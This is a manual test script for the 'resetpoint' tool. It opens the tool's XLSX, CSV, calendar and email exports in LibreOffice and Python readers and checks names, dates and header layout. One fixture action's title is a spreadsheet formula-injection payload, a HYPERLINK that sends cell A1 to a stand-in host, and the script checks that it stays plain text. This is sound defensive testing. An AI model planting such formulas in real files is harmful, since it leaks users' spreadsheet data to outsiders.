#!/usr/bin/env bash
# Open what resetpoint exports in the programs a PM hands it to, and print
# what they saw: the actions and history workbooks and the actions CSV in
# LibreOffice (headless, converted to flat ODF, whose XML says what type
# LibreOffice gave each cell, whether the header is frozen and has filters),
# the minutes' draft email in Python's email parser, the to-dos in Python's
# icalendar, the workbook in openpyxl. A tool that is not installed is
# named and skipped; a check that fails is printed FAIL and the script
# exits 1. Too heavy for CI (LibreOffice); run it by hand:
#   apt-get install -y --no-install-recommends libreoffice-calc-nogui
#   pip install openpyxl icalendar          # optional readers
#   cargo build && bash benches/open_in_real_programs.sh
# RESETPOINT=path/to/resetpoint and PYTHON=path/to/python3 override the
# binary and the Python used.
set -euo pipefail
cd "$(dirname "$0")/.."
repo=$PWD
bin=${RESETPOINT:-}
if [[ -z $bin ]]; then
  for candidate in target/release/resetpoint target/debug/resetpoint; do
    [[ -x $candidate ]] && { bin=$repo/$candidate; break; }
  done
fi
[[ -n $bin ]] || { echo "build resetpoint first: cargo build" >&2; exit 1; }
python=${PYTHON:-python3}

work=$(mktemp -d "${TMPDIR:-/tmp}/resetpoint-open.XXXXXX")
trap 'rm -rf "$work"' EXIT
cd "$work"

# The demo plan with names a spreadsheet garbles, and an email for Søren.
sed -e 's/name = "Ola Nordmann"/name = "Søren Kjærgaard"/' \
    -e 's/name = "Lin Chen"/name = "李梅"/' \
    -e 's/^id = "ola"$/id = "ola"\nemail = "soren@northwind.example"/' \
    "$repo/assets/demo.toml" >plan.toml
mkdir meetings
record=meetings/2026-11-24-1400-reset-point.toml
sed "s|^plan = \"\"|plan = \"$work/plan.toml\"|" \
  "$repo/tests/fixtures/records/2026-11-24-1400-reset-point.toml" >"$record"
# Two more actions: a title that is a formula, and an owner named in Chinese.
cat >>"$record" <<'EOF'

[[actions]]
id = "A-10"
section = 2
at = "2026-11-24T14:05:00Z"
type = "action"
title = '=HYPERLINK("http://x.example/?leak="&A1,"Click for details")'
owner = "ola"
due = "2026-12-08"
side = "customer"
status = "open"

[[actions]]
id = "A-11"
section = 2
at = "2026-11-24T14:06:00Z"
type = "action"
title = "Confirm the scanner count"
owner = "lin"
due = "2026-12-03"
side = "customer"
status = "open"
EOF

"$bin" actions plan.toml --format xlsx -o actions.xlsx
"$bin" actions plan.toml --format csv -o actions.csv
"$bin" actions plan.toml --format ics -o actions.ics
"$bin" history plan.toml --format xlsx -o history.xlsx
"$bin" minutes "$record" --format eml -o minutes.eml 2>/dev/null

mkdir lo
if command -v soffice >/dev/null 2>&1; then
  echo "LibreOffice: $(soffice --version 2>/dev/null | head -1)"
  for file in actions.xlsx history.xlsx actions.csv; do
    # No import options for the CSV: as it opens without a dialog.
    soffice --headless --norestore "-env:UserInstallation=file://$work/profile" \
      --convert-to fods --outdir "lo/${file%.*}-${file##*.}" "$file" >/dev/null 2>&1
  done
  # The CSV again, told it is UTF-8, as a PM picks in the import dialog.
  soffice --headless --norestore "-env:UserInstallation=file://$work/profile" \
    --infilter='CSV:44,34,76' --convert-to fods --outdir lo/actions-csv-utf8 actions.csv \
    >/dev/null 2>&1
  soffice --headless --norestore "-env:UserInstallation=file://$work/profile" \
    --convert-to 'csv:Text - txt - csv (StarCalc):44,34,76' --outdir lo/shown actions.xlsx \
    >/dev/null 2>&1
  echo "--- actions.xlsx as LibreOffice shows it (saved as CSV):"
  cat lo/shown/actions.csv
  echo "---"
else
  echo "skip LibreOffice: soffice not installed (apt-get install libreoffice-calc-nogui)"
fi

"$python" - "$work" <<'PY'
import email, email.policy, os, sys, xml.etree.ElementTree as ET

work = sys.argv[1]
failed = False
FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Click for details")'


def check(ok, what, seen=""):
    global failed
    failed |= not ok
    print(("ok  " if ok else "FAIL"), what, ("" if ok else f"— saw {seen!r}"))


NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
    "config": "urn:oasis:names:tc:opendocument:xmlns:config:1.0",
}


def q(name):
    prefix, local = name.split(":")
    return "{%s}%s" % (NS[prefix], local)


def fods_rows(path):
    """Each row as (type, shown text, date or value) cells, and the tree."""
    tree = ET.parse(path)
    rows = []
    for row in tree.iter(q("table:table-row")):
        cells = []
        for cell in row.findall(q("table:table-cell")):
            repeat = int(cell.get(q("table:number-columns-repeated"), "1"))
            kind = cell.get(q("office:value-type"), "empty")
            if cell.get(q("table:formula")):
                kind = "formula"
            text = "\n".join("".join(p.itertext()) for p in cell.findall(q("text:p")))
            value = cell.get(q("office:date-value")) or cell.get(q("office:value"))
            cells += [(kind, text, value)] * min(repeat, 20)
        while cells and cells[-1][0] == "empty" and not cells[-1][1]:
            cells.pop()
        if cells:
            rows.append(cells)
    return rows, tree


def filtered(tree):
    ranges = list(tree.iter(q("table:database-range")))
    return any(r.get(q("table:display-filter-buttons")) == "true" for r in ranges)


def frozen(tree):
    """Whether the header row is frozen: True, False, or None when the
    file has no view settings to say (LibreOffice headless has no view,
    and writes none)."""
    items = {i.get(q("config:name")): i.text for i in tree.iter(q("config:config-item"))}
    if "VerticalSplitMode" not in items:
        return None
    return items["VerticalSplitMode"] == "2" and items.get("VerticalSplitPosition") == "1"


def check_frozen(tree, what):
    seen = frozen(tree)
    if seen is None:
        print("n/a ", what, "— LibreOffice headless writes no view settings; openpyxl below reads it")
    else:
        check(seen, what)


lo = os.path.join(work, "lo")
actions_fods = os.path.join(lo, "actions-xlsx", "actions.fods")
if os.path.exists(actions_fods):
    rows, tree = fods_rows(actions_fods)
    header = [t for _, t, _ in rows[0]]
    print("LibreOffice, actions.xlsx: header", header)
    col = {name: header.index(name) for name in ("Id", "Title", "Owner", "Due", "Raised")}
    # A row ends at its last cell with something in it: pad to the header.
    rows = [r + [("empty", "", None)] * (len(header) - len(r)) for r in rows]
    by_id = {r[col["Id"]][1]: r for r in rows[1:]}
    a10 = by_id.get("A-10")
    check(a10 is not None, "the formula-titled action is a row", list(by_id))
    if a10:
        print("  A-10:", [(k, t) for k, t, _ in a10])
        check(a10[col["Title"]][:2] == ("string", FORMULA), "its title is a text cell, as typed", a10[col["Title"]])
        check(a10[col["Owner"]][1] == "Søren Kjærgaard", "Søren Kjærgaard reads right", a10[col["Owner"]][1])
        check(a10[col["Due"]][0] == "date" and a10[col["Due"]][2] == "2026-12-08", "the due date is a date cell", a10[col["Due"]])
        check(a10[col["Raised"]][0] == "date", "raised is a date-time cell", a10[col["Raised"]])
    owners = [r[col["Owner"]][1] for r in rows[1:]]
    check("李梅" in owners, "李梅 reads right", owners)
    check(not any(k == "formula" for r in rows for k, _, _ in r), "no cell is a formula")
    check_frozen(tree, "the header row is frozen")
    check(filtered(tree), "the header row has filter buttons")

history_fods = os.path.join(lo, "history-xlsx", "history.fods")
if os.path.exists(history_fods):
    rows, tree = fods_rows(history_fods)
    print("LibreOffice, history.xlsx:", [[(k, t) for k, t, _ in r[:5]] for r in rows[:2]])
    check(rows[1][0][0] == "date", "a meeting's day is a date cell", rows[1][0])
    check(rows[1][4][0] == "float", "actions opened is a number", rows[1][4])
    check_frozen(tree, "the header row is frozen")
    check(filtered(tree), "the header row has filter buttons")

csv_fods = os.path.join(lo, "actions-csv", "actions.fods")
if os.path.exists(csv_fods):
    rows, _ = fods_rows(csv_fods)
    print("LibreOffice, actions.csv opened with no import options:")
    for r in rows:
        print("  ", [(k, t) for k, t, _ in r[:4]])
    names = [r[2][1] for r in rows[1:]]
    # Known: LibreOffice 7.4 headless ignores the byte-order mark and reads
    # the file as Windows-1252; docs/commands.md says so. Said, not failed.
    print("note", "names as read with no options:", names)
    titles = [r[1] for r in rows[1:]]
    check(not any(k == "formula" for r in rows for k, _, _ in r), "no cell is a formula", titles)
    check(all("Click for details" != t for _, t, _ in titles), "the formula title shows as text", titles)
csv_utf8 = os.path.join(lo, "actions-csv-utf8", "actions.fods")
if os.path.exists(csv_utf8):
    rows, _ = fods_rows(csv_utf8)
    names = [r[2][1] for r in rows[1:]]
    check(rows[0][0][1] == "id", "told UTF-8, the byte-order mark is not part of the first cell", rows[0][0])
    check("Søren Kjærgaard" in names and "李梅" in names, "told UTF-8, names read right", names)
    check(not any(k == "formula" for r in rows for k, _, _ in r), "told UTF-8, no cell is a formula")

with open(os.path.join(work, "minutes.eml"), "rb") as f:
    mail = email.message_from_binary_file(f, policy=email.policy.default)
print("Python email: Subject:", mail["Subject"], "| To:", mail["To"], "| X-Unsent:", mail["X-Unsent"])
print("  parts:", [p.get_content_type() for p in mail.walk()])
check(mail.get_content_type() == "multipart/alternative", "the draft is multipart/alternative")
check(mail["X-Unsent"] == "1", "X-Unsent: 1, so it opens as a draft")
check("Søren Kjærgaard <soren@northwind.example>" in str(mail["To"]), "addressed to Søren, name decoded", mail["To"])
check(mail["Subject"].startswith("Minutes: Shipment Tracking Rebuild — "), "the subject decodes", mail["Subject"])

try:
    import icalendar
except ImportError:
    print("skip icalendar: not installed (pip install icalendar)")
else:
    with open(os.path.join(work, "actions.ics"), "rb") as f:
        cal = icalendar.Calendar.from_ical(f.read())
    todos = {str(t["SUMMARY"]).split()[0]: t for t in cal.walk("VTODO")}
    for uid, t in todos.items():
        a = t.get("ATTENDEE")
        print(f"icalendar {icalendar.__version__}: {uid}", str(t["SUMMARY"])[:40], "| DUE", t.decoded("DUE"), "| ATTENDEE", a, a.params.get("CN") if a else None)
    a = todos["A-10"].get("ATTENDEE")
    check(str(a) == "mailto:soren@northwind.example" and a.params["CN"] == "Søren Kjærgaard", "Søren's to-do names him with his email", a)
    check(str(todos["A-11"]["SUMMARY"]) == "A-11 Confirm the scanner count", "a summary reads back", todos["A-11"]["SUMMARY"])

try:
    import openpyxl
except ImportError:
    print("skip openpyxl: not installed (pip install openpyxl)")
else:
    ws = openpyxl.load_workbook(os.path.join(work, "actions.xlsx")).active
    header = [c.value for c in ws[1]]
    a10 = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "A-10")
    print(f"openpyxl {openpyxl.__version__}: sheet {ws.title!r}, frozen at {ws.freeze_panes}, filter {ws.auto_filter.ref}")
    print("  A-10:", [(c.data_type, c.value) for c in a10])
    title, due = a10[header.index("Title")], a10[header.index("Due")]
    check(title.data_type == "s" and title.value == FORMULA, "openpyxl: the title is a string", (title.data_type, title.value))
    check(due.is_date and str(due.value)[:10] == "2026-12-08", "openpyxl: the due date is a date", due.value)
    check(ws.freeze_panes == "A2", "openpyxl: frozen below the header", ws.freeze_panes)

sys.exit(1 if failed else 0)
PY
